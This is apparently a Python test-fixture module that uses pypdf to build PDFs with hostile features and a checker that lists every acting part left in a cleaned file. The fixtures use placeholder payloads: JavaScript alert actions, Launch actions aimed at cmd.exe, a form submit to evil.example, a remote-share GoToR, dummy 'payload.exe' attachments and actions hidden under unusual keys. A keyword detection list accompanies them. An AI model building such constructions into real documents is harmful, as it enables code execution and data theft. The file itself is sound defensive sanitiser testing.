"""PDFs that try to act when opened, built with pypdf, and a check that reparses a
stored PDF and lists every part that can act."""

from __future__ import annotations

import io

from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    IndirectObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

TEXT = "HUKOU SCAN 2026"
FORM_TEXT = "DRAWN BY A FORM XOBJECT"
SAFE_URL = "https://www.chsi.com.cn/"
# Web links some features keep: their address must survive, nothing else of them.
FEATURE_LINKS = {
    "annotation_aa": "https://example.org/",
    "javascript_uri_link": "https://example.net/",
    "uri_link_carrying_script_and_launch": "https://example.com/uri",
    "popup_to_widget_with_script": "https://example.com/popup",
}

FEATURES = (
    "open_action",
    "document_aa",
    "names_javascript",
    "page_aa",
    "annotation_aa",
    "javascript_link",
    "launch_link",
    "gotor_link",
    "submit_form_link",
    "import_data_link",
    "javascript_uri_link",
    "acroform_xfa",
    "embedded_file",
    "file_attachment_annotation",
    "outline_javascript",
    "custom_page_key_javascript",
    "uri_link_carrying_script_and_launch",
    "popup_to_widget_with_script",
    "form_xobject_carrying_actions",
)

# Names and words that mean "this part acts": none may be left in a cleaned file.
ACTING = (
    "/JavaScript", "/JS", "/Launch", "/GoToR", "/SubmitForm", "/ImportData", "/AcroForm",
    "/XFA", "/EmbeddedFile", "/EmbeddedFiles", "/FileAttachment", "/OpenAction", "/AA",
    "/Widget", "/Outlines", "/GoToE", "javascript:", "app.alert", "cmd.exe", "MZ-payload",
)  # fmt: skip


def _name(text: str) -> NameObject:
    return NameObject(text)


def _dict(**entries) -> DictionaryObject:
    return DictionaryObject({_name(f"/{k}"): v for k, v in entries.items()})


def _js(code: str = "app.alert('x')") -> DictionaryObject:
    return _dict(S=_name("/JavaScript"), JS=TextStringObject(code))


def _rect(n: int) -> ArrayObject:
    return ArrayObject(
        [FloatObject(50), FloatObject(100 + 40 * n), FloatObject(300), FloatObject(130 + 40 * n)]
    )


def _annotation(writer, page, subtype: str, n: int, **entries):
    annot = _dict(Type=_name("/Annot"), Subtype=_name(subtype), Rect=_rect(n), **entries)
    ref = writer._add_object(annot)
    page.setdefault(_name("/Annots"), ArrayObject()).append(ref)
    return annot


def hostile_pdf(*features: str) -> bytes:
    """One page with text and a plain web link, plus every feature asked for."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    font = writer._add_object(
        _dict(Type=_name("/Font"), Subtype=_name("/Type1"), BaseFont=_name("/Helvetica"))
    )
    page[_name("/Resources")] = _dict(Font=_dict(F1=font))
    content = DecodedStreamObject()
    content.set_data(f"BT /F1 24 Tf 72 720 Td ({TEXT}) Tj ET".encode())
    page[_name("/Contents")] = writer._add_object(content)
    writer.add_annotation(0, Link(rect=(50, 50, 300, 80), url=SAFE_URL))
    page = writer.pages[0]
    root = writer._root_object
    for n, feature in enumerate(features):
        _FEATURES[feature](writer, page, root, n)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def page_with_links(urls: list[str]) -> bytes:
    """The plain page with one more /Link annotation (a /URI action) for each address."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(hostile_pdf())))
    page = writer.pages[0]
    for n, url in enumerate(urls):
        _annotation(writer, page, "/Link", n, A=_dict(S=_name("/URI"), URI=TextStringObject(url)))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action(writer, page, root, n):
    root[_name("/OpenAction")] = writer._add_object(_js())


def _document_aa(writer, page, root, n):
    root[_name("/AA")] = _dict(WC=_js(), DP=_js())


def _names_javascript(writer, page, root, n):
    names = root.setdefault(_name("/Names"), DictionaryObject())
    names[_name("/JavaScript")] = _dict(
        Names=ArrayObject([TextStringObject("hello"), writer._add_object(_js("app.alert(2)"))])
    )


def _page_aa(writer, page, root, n):
    page[_name("/AA")] = _dict(O=_js(), C=_js())


def _annotation_aa(writer, page, root, n):
    _annotation(
        writer, page, "/Link", n,
        A=_dict(S=_name("/URI"), URI=TextStringObject("https://example.org/")),
        AA=_dict(E=_js(), X=_js()),
    )  # fmt: skip


def _javascript_link(writer, page, root, n):
    _annotation(writer, page, "/Link", n, A=_js())


def _launch_link(writer, page, root, n):
    _annotation(
        writer, page, "/Link", n,
        A=_dict(S=_name("/Launch"), F=TextStringObject("cmd.exe"), NewWindow=NumberObject(1)),
    )  # fmt: skip


def _gotor_link(writer, page, root, n):
    _annotation(
        writer, page, "/Link", n,
        A=_dict(S=_name("/GoToR"), F=TextStringObject("\\\\evil\\share\\x.pdf"), D=ArrayObject([NumberObject(0), _name("/Fit")])),
    )  # fmt: skip


def _submit_form_link(writer, page, root, n):
    _annotation(
        writer, page, "/Link", n,
        A=_dict(S=_name("/SubmitForm"), F=TextStringObject("https://evil.example/collect")),
    )  # fmt: skip


def _import_data_link(writer, page, root, n):
    _annotation(
        writer, page, "/Link", n, A=_dict(S=_name("/ImportData"), F=TextStringObject("data.fdf"))
    )


def _javascript_uri_link(writer, page, root, n):
    _annotation(
        writer, page, "/Link", n,
        A=_dict(S=_name("/URI"), URI=TextStringObject("javascript:app.alert(1)")),
        # A plain link whose action chains on to a script.
    )  # fmt: skip
    _annotation(
        writer, page, "/Link", n + 100,
        A=_dict(S=_name("/URI"), URI=TextStringObject("https://example.net/"), Next=_js()),
    )  # fmt: skip


def _acroform_xfa(writer, page, root, n):
    xfa = DecodedStreamObject()
    xfa.set_data(b"<xdp:xdp><script>app.alert('xfa')</script></xdp:xdp>")
    widget = _annotation(
        writer, page, "/Widget", n,
        FT=_name("/Btn"), T=TextStringObject("go"), A=_js(), AA=_dict(D=_js()),
    )  # fmt: skip
    root[_name("/AcroForm")] = _dict(
        Fields=ArrayObject([writer._add_object(widget)]),
        XFA=writer._add_object(xfa),
        NeedAppearances=NumberObject(1),
    )


def _embedded_file(writer, page, root, n):
    writer.add_attachment("payload.exe", b"MZ-payload")


def _file_attachment_annotation(writer, page, root, n):
    stream = DecodedStreamObject()
    stream.set_data(b"MZ-payload")
    stream[_name("/Type")] = _name("/EmbeddedFile")
    spec = _dict(
        Type=_name("/Filespec"),
        F=TextStringObject("run.exe"),
        EF=_dict(F=writer._add_object(stream)),
    )
    _annotation(writer, page, "/FileAttachment", n, FS=writer._add_object(spec))


def _outline_javascript(writer, page, root, n):
    item = writer.add_outline_item(title="目录", page_number=0)
    item.get_object()[_name("/A")] = _js()


def _custom_page_key_javascript(writer, page, root, n):
    # Keys no reader knows, reached only by walking the page's object graph.
    page[_name("/Foo")] = writer._add_object(_js("app.alert('custom key')"))
    page[_name("/Bar")] = _dict(
        Type=_name("/Action"), S=_name("/Launch"), F=TextStringObject("cmd.exe")
    )


def _uri_link_carrying_script_and_launch(writer, page, root, n):
    # A link a reader keeps for its web address whose action dictionary also holds a
    # script, a launch and a chained action.
    _annotation(
        writer, page, "/Link", n,
        A=_dict(
            S=_name("/URI"),
            URI=TextStringObject(FEATURE_LINKS["uri_link_carrying_script_and_launch"]),
            JS=TextStringObject("app.alert('in uri')"),
            Launch=_dict(F=TextStringObject("cmd.exe")),
            Next=ArrayObject([_js(), _dict(S=_name("/GoToE"), F=TextStringObject("x.pdf"))]),
        ),
    )  # fmt: skip


def _popup_to_widget_with_script(writer, page, root, n):
    # A kept link and a note whose /Popup is a widget (in no /Annots) that runs a script.
    widget = writer._add_object(
        _dict(
            Type=_name("/Annot"), Subtype=_name("/Widget"), Rect=_rect(n), FT=_name("/Btn"),
            AA=_dict(E=_js("app.alert('popup widget')")),
        )
    )  # fmt: skip
    _annotation(
        writer, page, "/Link", n,
        A=_dict(S=_name("/URI"), URI=TextStringObject(FEATURE_LINKS["popup_to_widget_with_script"])),
        Popup=widget,
    )  # fmt: skip
    _annotation(writer, page, "/Text", n + 100, Popup=widget, Contents=TextStringObject("note"))


def _form_xobject_carrying_actions(writer, page, root, n):
    # The page draws text through a form XObject; the XObject, its resources, the font
    # and the page's /Resources carry actions under keys the spec never gives them.
    resources = page[_name("/Resources")]
    font = resources["/Font"]["/F1"].get_object()
    font[_name("/AA")] = _dict(O=_js("app.alert('font')"))
    form = DecodedStreamObject()
    form.set_data(f"BT /F1 18 Tf 72 600 Td ({FORM_TEXT}) Tj ET".encode())
    form.update(
        {
            _name("/Type"): _name("/XObject"),
            _name("/Subtype"): _name("/Form"),
            _name("/BBox"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(595), NumberObject(842)]),
            _name("/Resources"): _dict(
                Font=_dict(F1=resources["/Font"]["/F1"]),
                Foo=_js("app.alert('form resources')"),
            ),
            _name("/AA"): _dict(PO=_js("app.alert('form aa')")),
            _name("/OpenAction"): _js("app.alert('form open')"),
            _name("/Foo"): writer._add_object(_dict(S=_name("/Launch"), F=TextStringObject("cmd.exe"))),
            _name("/Bar"): ArrayObject([_name("/JavaScript"), _js("app.alert('in array')")]),
        }
    )  # fmt: skip
    resources[_name("/XObject")] = _dict(X1=writer._add_object(form))
    resources[_name("/Foo")] = _js("app.alert('page resources')")
    draw = DecodedStreamObject()
    draw.set_data(b"q /X1 Do Q")
    page[_name("/Contents")] = ArrayObject([page["/Contents"], writer._add_object(draw)])


_FEATURES = {name: globals()[f"_{name}"] for name in FEATURES}


def acting_parts(data: bytes) -> list[str]:
    """Every acting name or word in the reparsed document: in any object reachable
    from the trailer, in every object the file lists (orphans included), and anywhere
    in the raw bytes."""
    found = {word for word in ACTING if word.encode() in data}
    reader = PdfReader(io.BytesIO(data), strict=True)
    seen: set[int] = set()

    def walk(obj):
        if hasattr(obj, "idnum"):
            if obj.idnum in seen:
                return
            seen.add(obj.idnum)
            obj = obj.get_object()
        if isinstance(obj, dict):
            for key, value in obj.items():
                found.update(w for w in ACTING if w in (str(key), str(value)))
                walk(value)
            if hasattr(obj, "get_data"):
                text = obj.get_data().decode("latin-1")
                found.update(w for w in ACTING if w in text)
        elif isinstance(obj, list):
            for value in obj:
                walk(value)
        else:
            found.update(w for w in ACTING if w in str(obj))

    walk(reader.trailer)
    for reference in every_object(reader):
        walk(reference)
    return sorted(found)


def every_object(reader: PdfReader) -> list[IndirectObject]:
    """Every object the file's cross-reference tables list, reachable from the trailer
    or not, in object streams or not."""
    numbers = {(n, gen) for gen, table in reader.xref.items() for n in table}
    numbers |= {(n, 0) for n in reader.xref_objStm}
    return [IndirectObject(n, gen, reader) for n, gen in sorted(numbers) if n > 0]


def page_text_and_links(data: bytes) -> tuple[str, list[str]]:
    reader = PdfReader(io.BytesIO(data))
    text = "".join(page.extract_text() for page in reader.pages)
    links = [
        annot.get_object()["/A"]["/URI"]
        for page in reader.pages
        for annot in page.get("/Annots", [])
        if annot.get_object().get("/Subtype") == "/Link"
    ]
    return text, links
